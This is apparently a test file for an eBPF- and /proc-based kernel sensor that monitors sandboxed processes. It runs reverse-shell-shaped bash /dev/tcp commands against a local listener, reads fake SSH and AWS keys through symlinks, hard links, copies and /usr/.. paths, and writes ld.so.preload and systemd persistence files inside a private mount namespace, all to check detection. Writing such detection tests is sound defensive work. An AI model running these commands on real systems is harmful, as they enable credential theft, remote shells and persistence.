import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { EventBus, type PraetorEvent, type EventOf } from '../events/index.ts';
import { startKernelSensor } from './kernel-sensor.ts';
import { createTestCgroup, type TestCgroup } from '../../test/helpers/testing-cgroup.ts';
import { ebpfUnavailableReason, findBpftrace } from './ebpf-sensor.ts';

// Real processes in a real cgroup, against the real kernel sensor (both backends).

const isRoot = process.getuid?.() === 0;
const ebpfWhy = ebpfUnavailableReason(findBpftrace());

let server: Server;
let openPort = 0;
let closedPort = 0;
const sockets: Socket[] = [];
let home = '';

before(async () => {
  server = createServer((s) => { sockets.push(s); s.on('error', () => {}); });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  openPort = (server.address() as { port: number }).port;
  const tmp = createServer();
  await new Promise<void>((r) => tmp.listen(0, '127.0.0.1', r));
  closedPort = (tmp.address() as { port: number }).port;
  await new Promise<void>((r) => tmp.close(() => r()));
  home = mkdtempSync(join(tmpdir(), 'praetor-home-'));
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n');
});
after(async () => {
  for (const s of sockets) s.destroy();
  await new Promise<void>((r) => server.close(() => r()));
  rmSync(home, { recursive: true, force: true });
});

function collect(bus: EventBus): PraetorEvent[] {
  const got: PraetorEvent[] = [];
  bus.subscribe((e) => got.push(e));
  return got;
}
const of = <K extends PraetorEvent['kind']>(got: PraetorEvent[], k: K): EventOf<K>[] => got.filter((e) => e.kind === k) as EventOf<K>[];
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

// Long-lived enough (0.3 s) that the /proc poller sees each step; the eBPF run adds short ones.
const script = (marker: string): string => [
  `/bin/sh -c 'sleep 0.3' ${marker} "two words"`,
  `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${'$OPEN'}; sleep 0.3'`,
  `bash -c 'exec 4<"$HOME/.ssh/id_rsa"; sleep 0.3'`,
  // a reverse shell's shape: fds 0-2 on a TCP socket, then exec
  `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${'$OPEN'} 1>&0 2>&0; exec sleep 0.3'`,
].join('; ');

async function runScenario(mode: 'ebpf' | 'procfs', extra: string): Promise<{ got: PraetorEvent[]; cg: TestCgroup; marker: string; outsider: string }> {
  const bus = new EventBus();
  const got = collect(bus);
  const cg = createTestCgroup();
  const marker = `mk${Date.now()}`;
  const outsider = `outside${Date.now()}`;
  const sensor = await startKernelSensor({ bus, resolver: cg.resolver, mode, procfsIntervalMs: 20 });
  try {
    await sensor.ready;
    assert.equal(sensor.mode, mode);
    const env = { OPEN: String(openPort), CLOSED: String(closedPort), HOME: home };
    const code = await cg.run(`${script(marker)}; ${extra}`, env);
    assert.equal(code, 0);
    // the same things outside the cgroup must produce nothing
    spawnSync('/bin/sh', ['-c', `/bin/sh -c 'sleep 0.2' ${outsider}; cat "$HOME/.ssh/id_rsa" >/dev/null`], { env: { ...process.env, ...env } });
    await sleep(300);
  } finally {
    await sensor.stop();
    await cg.remove();
  }
  return { got, cg, marker, outsider };
}

function commonAssertions(r: { got: PraetorEvent[]; cg: TestCgroup; marker: string; outsider: string }, sensor: 'ebpf' | 'procfs'): void {
  const { got, cg, marker, outsider } = r;
  assert.ok(got.every((e) => e.sandboxId === cg.sandboxId || e.sandboxId === 'host'), 'only sandbox events');
  assert.ok(!JSON.stringify(got).includes(outsider), 'a process outside the cgroup produced an event');
  const execs = of(got, 'process.exec');
  const sh = execs.find((e) => e.argv.includes(marker));
  assert.ok(sh, `exec with marker argv missing: ${JSON.stringify(execs.map((e) => e.argv))}`);
  assert.deepEqual(sh.argv, ['/bin/sh', '-c', 'sleep 0.3', marker, 'two words']);
  assert.equal(sh.uid, 0);
  assert.equal(sh.sensor, sensor);
  assert.ok(typeof sh.ppid === 'number' && sh.ppid > 1);
  const conn = of(got, 'net.connect').find((e) => e.dstPort === openPort);
  assert.ok(conn, 'connect to the listener missing');
  assert.equal(conn.dstIp, '127.0.0.1');
  assert.equal(conn.family, 'inet');
  const fo = of(got, 'file.open').find((e) => e.path === `${home}/.ssh/id_rsa`);
  assert.ok(fo, `file.open of the ssh key missing: ${JSON.stringify(of(got, 'file.open'))}`);
  assert.equal(fo.write, false);
  const rev = execs.find((e) => e.argv[0] === 'sleep' && (e.stdio ?? []).every((s) => /^socket:\[\d+\]$/.test(s)));
  assert.ok(rev, `exec with stdio on a socket missing: ${JSON.stringify(execs.map((e) => [e.argv, e.stdio]))}`);
  assert.deepEqual(rev.stdioPeers, [0, 1, 2].map(() => `127.0.0.1:${openPort}`));
  assert.ok(of(got, 'process.exit').length > 0, 'no exits');
}

describe('kernel sensor, eBPF backend', { skip: !isRoot ? 'needs root' : ebpfWhy }, () => {
  test('sees exec argv, connects (ok and refused), secret reads, socket stdio, exits; nothing outside', { timeout: 120_000 }, async () => {
    const extra = `/bin/true short-lived 'a\\x41b'; bash -c 'exec 3<>/dev/tcp/127.0.0.1/$CLOSED' 2>/dev/null; cat "$HOME/.ssh/id_rsa" >/dev/null; sh -c 'exit 7'; setpriv --reuid 65534 --regid 65534 --clear-groups unshare -m true 2>/dev/null; cat /usrx/.ssh/id_rsa /lib6/.ssh/id_rsa /etc/ldx/.ssh/id_rsa /usr/.ssh/id_rsa /etc/ld./.ssh/id_rsa 2>/dev/null; `
      // persistence writes under boring prefixes (in a mount namespace of its own: the host's /etc is untouched)
      + `unshare -m --propagation private sh -c 'mount -t tmpfs pt /etc && echo /x.so > /etc/ld.so.preload && cat /etc/ld.so.preload >/dev/null'; `
      + `sh -c 'echo x > /usr/lib/systemd/system/pt-none/x.service; echo x > /usr/lib/pt-none/x.service' 2>/dev/null; true`;
    const r = await runScenario('ebpf', extra);
    commonAssertions(r, 'ebpf');
    const execs = of(r.got, 'process.exec');
    // a process that lives microseconds still has its full argv (read in the kernel)
    const t = execs.find((e) => e.path === '/bin/true');
    assert.ok(t, 'short-lived /bin/true missing');
    assert.deepEqual(t.argv, ['/bin/true', 'short-lived', 'a\\x41b']);
    const refused = of(r.got, 'net.connect').find((e) => e.dstPort === closedPort);
    assert.ok(refused, 'refused connect missing');
    assert.equal(refused.result, -111);
    assert.equal(of(r.got, 'net.connect').find((e) => e.dstPort === openPort)?.result, 0);
    const cat = of(r.got, 'file.open').find((e) => e.comm === 'cat');
    assert.ok(cat && cat.result !== undefined && cat.result >= 0, 'cat of the key missing');
    const ex = of(r.got, 'process.exit').find((e) => e.exitCode === 7);
    assert.ok(ex, `exit code 7 missing: ${JSON.stringify(of(r.got, 'process.exit'))}`);
    // an escape attempt that isolation refused (no CAP_SYS_ADMIN): reported, with its errno
    const den = of(r.got, 'syscall.denied').find((e) => e.syscall === 'unshare');
    assert.ok(den, `refused unshare missing: ${JSON.stringify(of(r.got, 'syscall.denied'))}`);
    assert.equal(den.errno, 1);
    assert.equal(den.comm, 'unshare');
    // The kernel drops opens under the system prefixes (8 bytes compared as one word), not those
    // of paths that only start like one: differing in a prefix's last byte or past its end.
    // These keys do not exist; a failed open of a credential's path is still reported.
    const keyOpens = of(r.got, 'file.open').filter((e) => e.comm === 'cat' && e.result === -2).map((e) => e.path);
    assert.deepEqual(keyOpens.sort(), ['/etc/ldx/.ssh/id_rsa', '/lib6/.ssh/id_rsa', '/usrx/.ssh/id_rsa'], 'only the near misses of /usr/, /lib64/ and /etc/ld.');
    // Writes to persistence locations under /etc/ld. and /usr/lib are reported; reads, and
    // writes elsewhere under those prefixes, are not.
    const under = of(r.got, 'file.open').filter((e) => /^\/(etc\/ld\.|usr\/lib\/)/.test(e.path)).map((e) => `${e.path} ${e.write ? 'w' : 'r'}`);
    assert.deepEqual(under.sort(), ['/etc/ld.so.preload w', '/usr/lib/systemd/system/pt-none/x.service w']);
    // timestamps come from the kernel clock: never in the future
    for (const e of r.got) assert.ok(e.ts <= Date.now() * 1e6 + 5e6);
  });
});

describe('kernel sensor, eBPF backend, credentials by identity', { skip: !isRoot ? 'needs root' : ebpfWhy }, () => {
  // Threat (issue 13): a credential read by a name no rule matches. Each read below opens the
  // same file as $HOME/.aws/credentials, which the script wrote by its own name first.
  test('a link to a credential, a hard link, a copy, a moved key and a path through /usr/.. are reads of it; a link to a plain file is nothing', { timeout: 120_000 }, async () => {
    const bus = new EventBus();
    const got = collect(bus);
    const cg = createTestCgroup();
    const sensor = await startKernelSensor({ bus, resolver: cg.resolver, mode: 'ebpf' });
    const h = mkdtempSync(join(tmpdir(), 'praetor-ident-'));
    const cred = `${h}/.aws/credentials`;
    try {
      await sensor.ready;
      const code = await cg.run([
        `mkdir -p "$H/.aws" "$H/work"`,
        `printf '[default]\\naws_secret_access_key = abc\\n' > "$H/.aws/credentials"`,
        'sleep 0.3', // the write's record is read and @si written before the reads by other names
        `ln -s "$H/.aws/credentials" "$H/work/notes.txt"; cat "$H/work/notes.txt" >/dev/null`,
        `ln "$H/.aws/credentials" "$H/work/hard.txt"; cat "$H/work/hard.txt" >/dev/null`,
        `cat "/usr/..$H/.aws/credentials" >/dev/null`,
        `cp "$H/.aws/credentials" "$H/work/copy.ini"; cat "$H/work/copy.ini" >/dev/null`,
        `mv "$H/.aws/credentials" "$H/work/moved"; cat "$H/work/moved" >/dev/null`,
        `echo hello > "$H/work/readme"; ln -s "$H/work/readme" "$H/work/link"; cat "$H/work/link" "$H/work/readme" >/dev/null`,
        // a program that reads a credential and then writes a file of its own (pip reads ~/.netrc, writes a wheel)
        `sh -c 'read x < "$H/work/moved"; echo output > "$H/work/wheel.out"'; cat "$H/work/wheel.out" >/dev/null`,
      ].join('; '), { H: h });
      assert.equal(code, 0);
      await sleep(300);
    } finally {
      await sensor.stop();
      await cg.remove();
      rmSync(h, { recursive: true, force: true });
    }
    const opens = of(got, 'file.open');
    const reads = opens.filter((e) => e.comm === 'cat');
    // The read through /usr/.. names the credential itself (folded); that it is reported at all
    // is @si's doing: the kernel's prefix filter drops every other /usr/ path.
    assert.deepEqual(reads.map((e) => e.openedAs ?? '(by its name)').sort(), ['(by its name)', `${h}/work/copy.ini`, `${h}/work/hard.txt`, `${h}/work/moved`, `${h}/work/notes.txt`].sort(),
      JSON.stringify(opens));
    for (const e of reads) assert.equal(e.path, cred, 'reported as the credential it is');
    assert.ok(opens.some((e) => e.path === cred && e.write && e.openedAs === undefined), 'the write by its own name');
    assert.ok(!opens.some((e) => /readme|link/.test(`${e.path} ${e.openedAs ?? ''}`)), 'a plain file by a link is not a credential');
    assert.ok(!opens.some((e) => /wheel/.test(`${e.path} ${e.openedAs ?? ''}`)), 'what a program that is no copy tool writes after reading one is not a credential');
  });
});

describe('kernel sensor, eBPF backend, sandboxes older than the sensor', { skip: !isRoot ? 'needs root' : ebpfWhy }, () => {
  // Only exec programs walk the cgroup tree; the others trust the cgroups an exec registered.
  // A shell already running in a sandbox when the sensor starts execs nothing more: without the
  // seed taken at start its connect and its key read (bash builtins, no exec) would go unseen.
  test('a process started before the sensor is seen without an exec of its own', { timeout: 120_000 }, async () => {
    const bus = new EventBus();
    const got = collect(bus);
    const cg = createTestCgroup();
    const fifo = join(home, `go-${Date.now()}`);
    spawnSync('mkfifo', [fifo]);
    const env = { OPEN: String(openPort), HOME: home, GO: fifo };
    const done = cg.run(`exec bash -c 'echo > "$GO.up"; read x < "$GO"; exec 3<>/dev/tcp/127.0.0.1/$OPEN; exec 4<"$HOME/.ssh/id_rsa"; exit 0'`, env);
    // bash waits on the FIFO before the sensor starts: its last exec is behind it.
    for (let i = 0; i < 500 && !existsSync(`${fifo}.up`); i++) await sleep(10);
    assert.ok(existsSync(`${fifo}.up`), 'the shell never started');
    // Started inside the try: a sensor that fails to start must still end the waiting shell
    // (cg.remove), or the file hangs instead of failing.
    let sensor: Awaited<ReturnType<typeof startKernelSensor>> | undefined;
    try {
      sensor = await startKernelSensor({ bus, resolver: cg.resolver, mode: 'ebpf' });
      await sensor.ready;
      writeFileSync(fifo, 'go\n');
      assert.equal(await done, 0);
      await sleep(300);
      assert.ok(of(got, 'net.connect').some((e) => e.dstPort === openPort && e.sandboxId === cg.sandboxId), `connect missing: ${JSON.stringify(of(got, 'net.connect'))}`);
      assert.ok(of(got, 'file.open').some((e) => e.path === `${home}/.ssh/id_rsa`), `key read missing: ${JSON.stringify(of(got, 'file.open'))}`);
      assert.ok(of(got, 'process.exit').some((e) => e.sandboxId === cg.sandboxId), 'exit missing');
    } finally {
      await sensor?.stop();
      await cg.remove();
      rmSync(fifo, { force: true });
      rmSync(`${fifo}.up`, { force: true });
    }
  });
});

describe('kernel sensor, /proc fallback', { skip: !isRoot ? 'needs root' : false }, () => {
  test('sees the same long-lived behaviour by polling', { timeout: 60_000 }, async () => {
    const r = await runScenario('procfs', 'true');
    commonAssertions(r, 'procfs');
  });

  test('auto mode falls back to /proc and says so when bpftrace is missing', async () => {
    const bus = new EventBus();
    const got = collect(bus);
    const reasons: string[] = [];
    const cg = createTestCgroup();
    const s = await startKernelSensor({ bus, resolver: cg.resolver, bpftrace: '/nonexistent/bpftrace', onDegraded: (r) => reasons.push(r) });
    try {
      await s.ready;
      assert.equal(s.mode, 'procfs');
      assert.equal(reasons.length, 1);
      assert.match(reasons[0]!, /bpftrace not installed/);
      assert.equal(of(got, 'sensor.degraded').length, 1);
    } finally {
      await s.stop();
      await cg.remove();
    }
  });
});
